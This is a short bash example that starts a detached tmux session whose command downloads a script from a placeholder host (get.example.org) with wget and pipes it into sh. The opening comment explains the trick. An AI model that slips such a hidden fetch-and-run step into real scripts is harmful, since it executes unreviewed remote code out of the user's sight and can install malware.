#!/bin/bash
# A detached tmux session "installs a helper": tmux runs its command string
# with the shell, which downloads a script and runs it.
session=setup-$$
tmux new-session -d -s "$session" "wget -qO- https://get.example.org/helper | sh -s -- --quiet"
echo "setup started in tmux session $session"
